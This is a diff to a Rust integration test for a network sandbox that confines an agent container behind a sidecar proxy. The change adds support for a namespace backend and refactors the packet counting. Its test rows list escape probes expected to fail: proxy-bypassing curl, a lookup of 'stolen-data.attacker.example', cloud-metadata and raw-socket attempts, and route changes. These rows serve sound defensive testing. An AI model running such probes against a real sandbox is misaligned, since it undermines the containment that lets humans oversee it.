@@ -7,6 +7,7 @@ use bottle_tests::{
     lab::{HostCounter, Lab, Listeners, Target, output},
     running::Running,
     standin::Standin,
+    target::Target as Backend,
     wire::Authority,
 };
 use std::{
@@ -29,7 +30,24 @@ fn machine() -> Result<Vec<IpAddr>> {
     Ok(addresses.filter(|ip: &IpAddr| !ip.is_loopback()).collect())
 }
 
-fn outside(target: Ipv4Addr) -> Vec<Row> {
+/// What differs between backends in how a bottle is closed.
+struct Closed {
+    /// Whom its programs ask for names.
+    resolver: &'static str,
+    /// What is said of a socket of a kind that is not to be had.
+    no_socket: &'static str,
+}
+
+impl Closed {
+    fn of(backend: Backend) -> Self {
+        match backend {
+            Backend::Docker => Self { resolver: "127.0.0.11", no_socket: "not permitted" },
+            Backend::Namespace(_) => Self { resolver: "127.0.0.1", no_socket: "not supported" },
+        }
+    }
+}
+
+fn outside(target: Ipv4Addr, closed: &Closed) -> Vec<Row> {
     let (metadata, resolver) = (Ipv4Addr::new(169, 254, 169, 254).into(), Ipv4Addr::new(8, 8, 8, 8).into());
     let metadata_v6 = Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254).into();
     let resolver_v6 = Ipv6Addr::new(0x2001, 0x4860, 0x4860, 0, 0, 0, 0, 0x8888).into();
@@ -52,7 +70,7 @@ fn outside(target: Ipv4Addr) -> Vec<Row> {
         row("another host by name", "curl -s -m 3 https://forbidden.example/", denied()),
         row("another host by name, past the proxy", "curl -sS -m 3 --noproxy '*' https://allowed.example/", End::Fails),
         row("a name by the resolver", "getent ahosts stolen-data.attacker.example", End::Fails),
-        row("a name by the resolver, over TCP", over_tcp("127.0.0.11"), End::Says("refused".into())),
+        row("a name by the resolver, over TCP", over_tcp(closed.resolver), End::Says("refused".into())),
         row("a name by the sidecar, over TCP", over_tcp("egress"), End::Says("refused".into())),
         Row { target: Some(resolver), ..row("a name @8.8.8.8, over TCP", over_tcp("8.8.8.8"), End::Fails) },
         udp("a name @8.8.8.8", resolver, 53),
@@ -65,16 +83,20 @@ fn outside(target: Ipv4Addr) -> Vec<Row> {
         row(
             "a raw socket",
             format!("perl -e '{}'", RAW.replace("FAMILY", "AF_INET")),
-            End::Says("not permitted".into()),
+            End::Says(closed.no_socket.into()),
         ),
         row(
             "a raw socket of IPv6",
             format!("perl -e '{}'", RAW.replace("FAMILY", "AF_INET6")),
-            End::Says("not permitted".into()),
+            End::Says(closed.no_socket.into()),
         ),
-        row("a packet socket", format!("perl -e '{}'", RAW.replace("FAMILY", "17")), End::Says("not permitted".into())),
+        row(
+            "a packet socket",
+            format!("perl -e '{}'", RAW.replace("FAMILY", "17")),
+            End::Says(closed.no_socket.into()),
+        ),
         row("a route", "ip route add default via 10.0.0.1", End::Says("not permitted".into())),
-        row("an address of IPv6", "ip addr add fd00::9/64 dev eth0", End::Says("not permitted".into())),
+        row("an address of IPv6", "ip addr add fd00::9/64 dev lo", End::Says("not permitted".into())),
     ]
 }
 
@@ -136,6 +158,34 @@ fn without_capability() -> Vec<Row> {
     ]
 }
 
+/// The bridge between a bottle's container and its sidecar's, on which packets are counted.
+struct Wire {
+    counters: Vec<(IpAddr, HostCounter)>,
+    /// Packets between the bottle and its own sidecar cross it, too: this counter does count.
+    control: HostCounter,
+}
+
+impl Wire {
+    fn of(bottle: &Running<'_>, rows: &[Row]) -> Result<Self> {
+        let bridge = bottle.bridge("internal")?;
+        let targets: BTreeSet<IpAddr> = rows.iter().filter_map(|row| row.target).collect();
+        let counter = |ip| Ok((ip, HostCounter::to(ip, &["-i", &bridge])?));
+        let sidecar = bottle.address("sidecar", "internal")?.into();
+        let control = HostCounter::to(sidecar, &["-i", &bridge])?;
+        Ok(Self { counters: targets.into_iter().map(counter).collect::<Result<_>>()?, control })
+    }
+
+    fn check(self, rows: &[Row]) -> Result<()> {
+        for (ip, counter) in &self.counters {
+            let of = |row: &&Row| row.target == Some(*ip);
+            let names: Vec<&str> = rows.iter().filter(of).map(|row| row.name.as_str()).collect();
+            assert_eq!(counter.packets()?, 0, "packets to {ip} left the bottle: {names:?}");
+        }
+        assert!(self.control.packets()? > 0, "packets on the bottle's bridge are not seen: the counters prove nothing");
+        Ok(())
+    }
+}
+
 #[test]
 fn nothing_but_the_sidecar_is_within_reach() -> Result<()> {
     let (lab, authority) = (Lab::get(), Authority::new()?);
@@ -159,7 +209,9 @@ fn nothing_but_the_sidecar_is_within_reach() -> Result<()> {
     }
     let _process = KillOnDrop(Command::new("tail").args(["-f", &format!("{marker}0")]).stdout(Stdio::null()).spawn()?);
 
-    let mut rows = outside(target.address);
+    let backend = home.target();
+    let is_docker = backend == Backend::Docker;
+    let mut rows = outside(target.address, &Closed::of(backend));
     for ip in machine()? {
         // A link-local address is on the link that it is asked for on.
         let scope = |row: Row| match ip {
@@ -170,30 +222,22 @@ fn nothing_but_the_sidecar_is_within_reach() -> Result<()> {
         };
         rows.extend([tcp("this machine", ip, listeners.port), udp("this machine", ip, listeners.port)].map(scope));
     }
-    for (container, network) in [("agent", "internal"), ("sidecar", "internal"), ("sidecar", "egress")] {
-        let ip = neighbour.address(container, network)?.into();
-        rows.extend([tcp("a neighbour", ip, 9099), tcp("a neighbour", ip, 53), udp("a neighbour", ip, 53)]);
+    // In namespaces neither has an address that anybody could try.
+    if is_docker {
+        for (container, network) in [("agent", "internal"), ("sidecar", "internal"), ("sidecar", "egress")] {
+            let ip = neighbour.address(container, network)?.into();
+            rows.extend([tcp("a neighbour", ip, 9099), tcp("a neighbour", ip, 53), udp("a neighbour", ip, 53)]);
+        }
+        let own_egress = bottle.address("sidecar", "egress")?.into();
+        rows.extend([tcp("its sidecar's other leg", own_egress, 9099), udp("its sidecar's other leg", own_egress, 53)]);
     }
-    let own_egress = bottle.address("sidecar", "egress")?.into();
-    rows.extend([tcp("its sidecar's other leg", own_egress, 9099), udp("its sidecar's other leg", own_egress, 53)]);
     rows.extend(machine_itself(lab.docker_host.trim_start_matches("unix://"), &marker));
     rows.extend(without_capability());
 
-    let bridge = bottle.bridge("internal")?;
-    let targets: BTreeSet<IpAddr> = rows.iter().filter_map(|row| row.target).collect();
-    let counters: Vec<(IpAddr, HostCounter)> =
-        targets.into_iter().map(|ip| Ok((ip, HostCounter::to(ip, &["-i", &bridge])?))).collect::<Result<_>>()?;
-    // Packets between the bottle and its own sidecar cross the same bridge: these counters do count.
-    let sidecar = bottle.address("sidecar", "internal")?.into();
-    let control = HostCounter::to(sidecar, &["-i", &bridge])?;
-
+    let wire = if is_docker { Some(Wire::of(&bottle, &rows)?) } else { None };
     let run = bottle.sh(&script(&rows, "curl -sS -m 5 -o /dev/null https://allowed.example/beside-{}", 4, 32))?;
     check(&rows, &run)?;
-    for (ip, counter) in &counters {
-        let names: Vec<&str> = rows.iter().filter(|row| row.target == Some(*ip)).map(|row| row.name.as_str()).collect();
-        assert_eq!(counter.packets()?, 0, "packets to {ip} left the bottle: {names:?}");
-    }
-    assert!(control.packets()? > 0, "packets on the bottle's bridge are not seen: the counters prove nothing");
+    wire.map_or(Ok(()), |wire| wire.check(&rows))?;
     assert_eq!(target.packets()?, before, "packets reached {}: {:?}", target.address, target.seen());
     assert_eq!((target.seen(), listeners.heard()), (vec![], vec![]));
     let arrived = |n: usize| standin.seen().iter().any(|seen| seen.path == format!("/beside-{n}"));
